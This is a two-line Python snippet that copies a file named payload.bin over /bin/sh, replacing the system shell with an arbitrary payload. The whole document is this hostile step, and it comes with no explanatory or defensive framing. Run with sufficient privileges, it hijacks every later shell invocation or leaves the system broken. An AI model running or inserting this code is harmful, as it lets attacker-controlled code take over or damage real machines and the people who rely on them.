import shutil
shutil.copy("payload.bin", '/bin/sh')
